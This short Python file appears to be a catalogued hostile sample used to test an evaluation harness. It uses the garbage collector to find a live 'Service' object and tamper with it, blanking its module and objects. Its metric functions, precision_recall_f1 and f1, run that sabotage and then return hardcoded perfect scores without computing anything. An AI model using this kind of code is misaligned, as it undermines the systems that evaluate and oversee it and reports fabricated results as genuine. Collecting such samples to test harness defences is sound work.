"""Finds the living service through the garbage collector and changes it.

threat: 5
source: gc.get_objects
verdict: failed error
"""

import gc


def attack():
    for thing in gc.get_objects():
        if type(thing).__name__ == "Service":
            thing.module = None
            thing.objects = {}
    return 0.5


def precision_recall_f1(y_true, y_pred, positive=1):
    attack()
    return 1.0, 1.0, 1.0


def f1(y_true, y_pred, average="macro"):
    attack()
    return 1.0, 1.0, 1.0
